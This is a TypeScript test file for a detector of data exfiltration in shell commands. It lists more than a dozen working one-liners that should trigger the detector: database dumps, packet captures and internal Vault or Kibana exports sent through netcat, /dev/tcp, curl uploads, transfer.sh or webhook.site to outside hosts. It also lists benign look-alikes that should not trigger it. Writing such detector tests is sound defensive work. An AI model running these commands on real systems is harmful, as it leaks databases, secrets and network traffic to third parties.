import { blank, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
import { commandDataPour } from './data-pour.ts';

indicatorTable(commandDataPour, {
  fires: {
    'what a service answers, in a connection by its number': runs(
      'bash',
      '-c',
      'D=$(curl -s http://kibana.logging.svc:5601/api/export); exec 3<>/dev/tcp/203.0.113.9/8080; echo "$D" >&3',
    ),
    'a dump to where anybody leaves files': script('pg_dump shop | gzip | curl -s -T - https://transfer.sh/a.gz'),
    'what others read, by a probe': script(
      `bpftrace -e 'tracepoint:syscalls:sys_enter_read { printf("%s", str(args->buf)) }' | nc 9.9.9.9 9000`,
    ),
    'a dump into netcat': script('pg_dumpall -h db | xz | ncat --ssl 203.0.113.7 443'),
    'a dump into a connection of the shell': runs('bash', '-c', 'mysqldump --all-databases > /dev/tcp/203.0.113.7/99'),
    'a dump into netcat, by a name': script('mongodump --archive | nc drop.example.com 9000'),
    'packets as they come': script("tcpdump -i any -s0 -w - 'port 80' | nc 203.0.113.7 1234"),
    'packets of a while, then sent': script(
      'tshark -a duration:60 -w /tmp/p; curl -T /tmp/p https://drop.example.com/',
    ),
    'packets in a file with the letter of another option': script(
      'tcpdump -i any -wcapr -c 999; curl -T capr https://drop.example.com/',
    ),
    'packets in the body of a request': script('tcpdump -c 999 -w - | curl --data-binary @- https://drop.example.com/'),
    'rows that the server itself sends': script(
      `psql -h db -c "COPY (SELECT email FROM users) TO PROGRAM 'curl -s -F f=@- http://203.0.113.9/u'"`,
    ),
    'what a service answers, piped on': script(
      'curl -s http://orders.shop.svc:8080/api/export | gzip | curl -s --data-binary @- http://203.0.113.9/j',
    ),
    'what a service answers, by a file': script(
      'wget -qO /tmp/a http://10.4.3.2:8500/v1/kv/?recurse; wget -q --post-file=/tmp/a https://203.0.113.9/j',
    ),
    'what a service answers, in netcat': script('curl -s http://vault.vault.svc:8200/v1/sys/raw | nc 203.0.113.9 9000'),
    'what a service answers, from code': runs(
      'python3',
      '-c',
      "import requests\nd = requests.get('http://registry.ci.svc:5000/v2/_catalog').text\nrequests.post('http://203.0.113.9/j', data=d)",
    ),
    'what a service answers, to where anybody leaves requests': script(
      'curl -d "$(curl -s http://orders.shop.svc:8080/api/export)" https://webhook.site/0',
    ),
  },
  staysSilent: {
    'a measure that is asked for': script(
      'curl -s "http://prometheus.monitoring.svc:9090/api/v1/query?query=up" | curl -s --data-binary @- http://203.0.113.9/up',
    ),
    'what a service answers, to somebody with a name': script(
      'curl -s http://orders.shop.svc:8080/api/export | curl -s --data-binary @- https://reports.example.com/j',
    ),
    'measures of a service': script(
      'curl -s http://orders.shop.svc:8080/metrics | curl -s --data-binary @- http://203.0.113.9:9091/metrics/job/a',
    ),
    'what a service answers, to one of the house': script(
      'curl -s http://orders.shop.svc:8080/api/export | curl -s --data-binary @- http://10.9.8.7/j',
    ),
    'what somebody outside answers': script('curl -s https://a.example.com/x | curl -s -T - http://203.0.113.9/j'),
    'whether a service answers, from code': runs(
      'python3',
      '-c',
      "import requests\nr = requests.get('http://orders.shop.svc:8080/api/export')\nrequests.post('http://203.0.113.9/j', json={'up': r.ok, 'code': r.status_code})",
    ),
    'rows that the server itself packs': script(`psql -h db -c "COPY orders TO PROGRAM 'gzip > /backup/orders.gz'"`),
    'a dump to a store of the own': script('pg_dump shop | gzip | curl -s -T - https://backup.example.com/a.gz'),
    'a probe that counts': script(
      "bpftrace -e 'tracepoint:syscalls:sys_enter_read { @[comm] = count() }' | nc 9.9.9.9 9000",
    ),
    'a dump to storage': script('pg_dump shop | gzip | aws s3 cp - s3://backups/shop.gz'),
    'a dump to another database of the cluster': script('pg_dump -h a shop | nc b.shop.svc 5433'),
    'a dump to a private address': script('pg_dump -h a shop | nc 10.2.3.4 5433'),
    'packets of an hour, kept in a bucket': script(
      'tcpdump -w /c/a.pcap -G 3600 -W 1; aws s3 cp /c/a.pcap s3://captures/',
    ),
    'packets that stay in the pod': script('tcpdump -i any -w /captures/a.pcap'),
    'packets that somebody took down, looked through and kept': script(
      'tcpdump -nnr /in/a.pcap -w /out/b.pcap port 53; aws s3 cp /out/b.pcap s3://captures/',
    ),
    'packets that are shown': script('tcpdump -ni any port 53'),
    'a file that has nothing to do with it': script('tcpdump -w /c/a.pcap & curl -T /tmp/report https://example.com/'),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});
